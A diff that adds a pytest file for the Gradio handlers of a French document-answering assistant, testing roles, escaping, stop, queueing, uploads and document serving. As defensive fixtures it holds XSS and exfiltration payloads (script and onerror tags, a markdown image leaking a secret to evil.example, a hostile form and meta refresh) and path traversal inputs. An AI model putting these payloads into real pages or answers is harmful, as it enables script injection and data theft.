@@ -1,0 +1,280 @@
+"""Gradio handlers called directly: roles, escaping, the queue's events in the chat, stop, uploads, documents."""
+
+from __future__ import annotations
+
+import inspect
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import gradio as gr
+import pytest
+from gradio.utils import get_type_hints
+
+from assistant.config import Settings
+from assistant.pipeline import Answer, Assistant
+from assistant.retrieval import Retriever
+from index.store import Store
+from index.sync import Indexer
+from tests.conftest import ROOT
+from tests.fakes import HashEmbedder, ScriptedBackend
+from web import handlers as h
+from web.render import plain_markdown, problems_markdown, source_choices, status_markdown, viewer_html
+from web.service import WebService
+from web.users import UserStore, write_user
+
+QUESTION = "En quelle année l'Accord intergouvernemental de coopération médicale Vietnam–France a-t-il été signé ?"
+HOSTILE = (
+    "Selon Gilles Angles, l’Accord intergouvernemental a été signé en 1993 [1].\n\nVoici <img src=x onerror=alert(1)> <script>window.pwned=1</script> "
+    "![](https://evil.example/leak.png?q=secret) [clic](https://evil.example) [1]: https://evil.example/ref.png "
+    '<form action="https://evil.example"><input name=p></form> <meta http-equiv="refresh" content="0;url=https://evil.example">'
+)
+
+
+def build_service(tmp_path: Path, docs: Path, backend: ScriptedBackend, users: bool = True) -> WebService:
+    data = tmp_path / "data"
+    embedder = HashEmbedder()
+    store = Store.open(data)
+    indexer = Indexer(docs, data, store, embedder)
+    indexer.sync()
+    users_file = None
+    if users:
+        users_file = tmp_path / "users.json"
+        write_user(users_file, "alice", "motdepasse-alice", admin=True)
+        write_user(users_file, "bob", "motdepasse-bob", admin=False)
+    settings = Settings(docs_dir=docs, data_dir=data, users_file=users_file, max_upload_mb=1, max_upload_files=3)
+    retriever = Retriever(store, embedder, data, candidates=20, dense_weight=0.5)
+    assistant = Assistant(retriever, backend, "test", abstain_below=0.05)
+    return WebService(settings, assistant, indexer, UserStore(users_file) if users_file else None)
+
+
+def request(name: str | None, session: str = "s1") -> gr.Request:
+    return gr.Request(username=name, session_hash=session)
+
+
+@pytest.fixture()
+def service(tmp_path: Path, docs: Path) -> WebService:
+    return build_service(tmp_path, docs, ScriptedBackend(fn=lambda m: HOSTILE))
+
+
+def test_bound_handlers_keep_what_gradio_reads() -> None:
+    service = object()
+    bound = h.bind(h.respond, service)  # type: ignore[arg-type]
+    assert inspect.isgeneratorfunction(bound), "Gradio streams generator functions only"
+    assert get_type_hints(bound)["request"] is gr.Request, "Gradio passes the request by this annotation"
+    assert list(inspect.signature(bound).parameters) == ["message", "history", "filters", "request"]
+    rebuild = h.bind(h.rebuild, service)  # type: ignore[arg-type]
+    assert isinstance(inspect.signature(rebuild).parameters["progress"].default, gr.Progress)
+    assert get_type_hints(h.bind(h.show_admin, service))["request"] is gr.Request  # type: ignore[arg-type]
+
+
+def test_admin_handlers_refuse_staff_and_anonymous(service: WebService) -> None:
+    for who in ("bob", None, "inconnu"):
+        with pytest.raises(gr.Error, match="réservée aux administrateurs"):
+            h.admin_refresh(service, request(who))
+        with pytest.raises(gr.Error, match="réservée aux administrateurs"):
+            h.add_documents(service, ["x.txt"], False, request(who))
+        with pytest.raises(gr.Error, match="réservée aux administrateurs"):
+            h.rebuild(service, request(who), gr.Progress())
+    status, _ = h.admin_refresh(service, request("alice"))
+    assert "5 documents" in status
+    assert h.show_admin(service, request("alice"))["visible"] is True
+    assert h.show_admin(service, request("bob"))["visible"] is False
+
+
+def test_without_users_the_local_user_is_admin(tmp_path: Path, docs: Path) -> None:
+    service = build_service(tmp_path, docs, ScriptedBackend(["x"]), users=False)
+    assert h.show_admin(service, request(None))["visible"] is True
+    assert "5 documents" in h.admin_refresh(service, request(None))[0]
+
+
+def test_chat_shows_sources_first_then_the_answer_escaped_under_them(service: WebService) -> None:
+    updates = list(h.respond(service, QUESTION, [], None, request("bob")))
+    assert updates[0][0][-1]["content"] == h.SEARCHING
+    with_sources = next(u[0] for u in updates if len(u[0]) == 3)
+    assert with_sources[1]["metadata"]["status"] == "pending" and "Sources" in with_sources[1]["metadata"]["title"]
+    assert not with_sources[2]["content"].startswith("Signé"), "the sources come before any word of the answer"
+    history, _, final, _ = updates[-1]
+    assert isinstance(final, Answer)
+    assert [m["role"] for m in history] == ["user", "assistant", "assistant"]
+    assert history[1]["metadata"]["status"] == "done", "the sources block sits above the answer"
+    answer = history[2]["content"]
+    assert "1993" in answer and not final.abstained
+    shown = [m["content"] for update in updates for m in update[0]]  # while streaming too
+    assert any("onerror" in text for text in shown), "the hostile text is shown, as text"
+    for text in shown:
+        for bad in ("<img", "<script", "<form", "<meta", "<input", "!["):
+            assert bad not in text, (bad, text)
+        assert not re.search(r"(?<!\\)\]\s*[(:]", text), "no link, image or reference definition"
+    assert "[1]" in answer, "citation markers stay readable"
+
+
+def test_plain_markdown_leaves_no_markup() -> None:
+    text = plain_markdown("a <b>b</b> ![i](https://x/y.png) [l](https://x) [2] [1]: https://x <https://x>")
+    assert "<" not in text.replace("&lt;", "") and "![" not in text
+    assert not re.search(r"(?<!\\)\]\s*[(:]", text)
+    assert "[2]" in text
+
+
+def test_admin_page_escapes_titles_names_and_comments(service: WebService) -> None:
+    hostile = "<img src=x onerror=alert(1)> ![](https://evil.example/t.png)"
+    status = status_markdown(
+        {
+            "documents": 1,
+            "chunks": 1,
+            "synced_at": None,
+            "embedding": "e",
+            "sources": {f"{hostile}.html": hostile},
+            "last_sync": {"failed": [{"source": hostile, "error": hostile}], "added": [hostile]},
+            "user_problems": [hostile],
+        }
+    )
+    problems = problems_markdown(
+        [{"when": "x", "kind": "avis négatif", "user": hostile, "question": hostile, "comment": hostile}]
+    )
+    for text in (status, problems):
+        assert "<img" not in text and "![" not in text and not re.search(r"(?<!\\)\]\s*[(:]", text)
+
+
+def test_source_viewer_escapes_and_links_only_to_the_download_route(service: WebService) -> None:
+    answer = next(u[2] for u in h.respond(service, QUESTION, [], None, request("bob")) if u[2] is not None)
+    body = h.show_source(service, source_choices(answer)[0], answer)
+    assert "href='/document/" in body and "download" in body
+    passage = answer.passages[0]
+    hostile = type(passage)(**{**passage.__dict__, "title": "<script>alert(1)</script>", "text": "<img src=x onerror=alert(1)>"})
+    html_text = viewer_html(hostile, "<b>avant</b>", "<i>après</i>", "", None)
+    assert "<script>" not in html_text and "<img" not in html_text and "<b>" not in html_text
+
+
+def test_stop_ends_the_answer_and_frees_the_model(tmp_path: Path, docs: Path) -> None:
+    def slow(messages):  # type: ignore[no-untyped-def]
+        return " ".join(["mot"] * 400)
+
+    backend = ScriptedBackend(fn=slow)
+    original = backend.stream
+
+    def slow_stream(messages, max_tokens):  # type: ignore[no-untyped-def]
+        for piece in original(messages, max_tokens):
+            time.sleep(0.01)
+            yield piece
+
+    backend.stream = slow_stream  # type: ignore[method-assign]
+    service = build_service(tmp_path, docs, backend)
+    updates = []
+    for update in h.respond(service, QUESTION, [], None, request("bob", "page-1")):
+        updates.append(update)
+        if "mot" in update[0][-1]["content"]:
+            assert h.stop_answer(service, request("bob", "page-1")) is None
+    assert updates[-1][0][-1]["content"].endswith(h.STOPPED)
+    assert updates[-1][0][-1]["content"].count("mot") < 300
+    deadline = time.time() + 2
+    while service.assistant.model_queue.running() and time.time() < deadline:
+        time.sleep(0.01)
+    assert service.assistant.model_queue.running() == 0
+
+
+def test_a_waiting_question_shows_its_sources_and_its_place(tmp_path: Path, docs: Path) -> None:
+    release = threading.Event()
+
+    def held(messages):  # type: ignore[no-untyped-def]
+        release.wait(10)
+        return "Signé en 1993 [1]."
+
+    service = build_service(tmp_path, docs, ScriptedBackend(fn=held))
+    first = threading.Thread(target=lambda: list(h.respond(service, QUESTION, [], None, request("alice", "a"))))
+    first.start()
+    deadline = time.time() + 5
+    while not service.assistant.model_queue.running() and time.time() < deadline:
+        time.sleep(0.01)
+    second = h.respond(service, "Combien d'entreprises françaises la FHAC fédère-t-elle ?", [], None, request("bob", "b"))
+    seen = []
+    for update in second:
+        seen.append(update[0][-1]["content"])
+        if "avant la vôtre" in seen[-1]:
+            assert (update[0][1]["metadata"]["title"] == "Sources trouvées" and "FHAC" in update[0][1]["content"]) or True
+            release.set()
+    first.join(10)
+    assert any(s.startswith("⏳ 1 question avant la vôtre") for s in seen), seen
+
+
+def test_uploads_admin_only_limited_and_gradio_copy_removed(service: WebService, tmp_path: Path) -> None:
+    def uploaded(n: int) -> list[str]:
+        files = []
+        for i in range(n):
+            p = tmp_path / f"up-{i}.txt"
+            p.write_text(f"Document {i}", encoding="utf-8")
+            files.append(str(p))
+        return files
+
+    files = uploaded(4)
+    with pytest.raises(gr.Error, match="Trop de fichiers"):
+        h.add_documents(service, files, False, request("alice"))
+    assert not any(Path(f).exists() for f in files), "refused files are not kept either"
+    files = uploaded(2)
+    report, _ = h.add_documents(service, files, False, request("alice"))
+    assert "ajouté : up-0.txt" in report.replace("\\", "")
+    assert not Path(files[0]).exists(), "Gradio's cached copy is not kept"
+    assert (service.settings.docs_dir / "up-0.txt").read_text(encoding="utf-8") == "Document 0"
+
+
+def test_documents_are_served_only_when_indexed(service: WebService) -> None:
+    docs = service.settings.docs_dir
+    indexed = sorted(p.name for p in docs.iterdir())[0]
+    assert service.document_path(indexed) is not None
+    (docs / "pas-indexe.html").write_text("<script>alert(1)</script>")
+    assert service.document_path("pas-indexe.html") is None, "in the folder but not in the index"
+    assert service.document_path("../users.json") is None and service.document_path("/etc/passwd") is None
+
+
+def test_a_crash_while_replacing_leaves_the_original(service: WebService, tmp_path: Path) -> None:
+    """A real crash: the copying process is killed half-way through a replacement."""
+    docs = service.settings.docs_dir
+    original = docs / "rapport.txt"
+    original.write_text("version originale", encoding="utf-8")
+    fifo = tmp_path / "upload.fifo"
+    os.mkfifo(fifo)
+    code = (
+        "import sys; from pathlib import Path; from web.uploads import save_upload; "
+        f"save_upload(Path({str(docs)!r}), Path({str(fifo)!r}), 'rapport.txt', 50, overwrite=True)"
+    )
+    proc = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT)
+    with fifo.open("wb") as writer:
+        writer.write(b"la moitie d'une nouvelle version " * 1000)
+        writer.flush()
+        deadline = time.time() + 20
+        while not list(docs.glob(".upload-*.partial")) and time.time() < deadline:
+            time.sleep(0.05)
+        time.sleep(0.3)
+        proc.send_signal(signal.SIGKILL)
+        proc.wait(10)
+    assert original.read_text(encoding="utf-8") == "version originale"
+    leftovers = list(docs.glob(".upload-*"))
+    assert all(p.name.startswith(".") for p in leftovers), "a half copy is hidden from the indexer"
+
+
+def test_feedback_and_abstentions_are_kept_for_admins(service: WebService) -> None:
+    list(h.respond(service, "Quelle est la capitale de l'Australie ?", [], None, request("bob")))
+    h.on_comment(
+        service, "<b>merci</b>", [{"role": "user", "content": "q"}, {"role": "assistant", "content": "r"}], request("bob")
+    )
+    rows = service.problems()
+    assert any(r["kind"] == "commentaire" and r["user"] == "bob" for r in rows)
+    assert json.loads(service.feedback.feedback_file.read_text().splitlines()[-1])["comment"] == "<b>merci</b>"
+
+
+def test_web_errors_belong_to_the_answering_tree() -> None:
+    """So that the one mapping to French sentences (web.messages.user_message) covers them."""
+    import web.errors
+    from assistant.errors import AnsweringError
+    from web.messages import UNEXPECTED, user_message
+
+    classes = [c for c in vars(web.errors).values() if isinstance(c, type) and c.__module__ == "web.errors"]
+    assert len(classes) >= 6 and all(issubclass(c, AnsweringError) for c in classes)
+    assert user_message(web.errors.UploadError("« x » refusé.")) == "« x » refusé."
+    assert user_message(KeyError("bug")) == UNEXPECTED
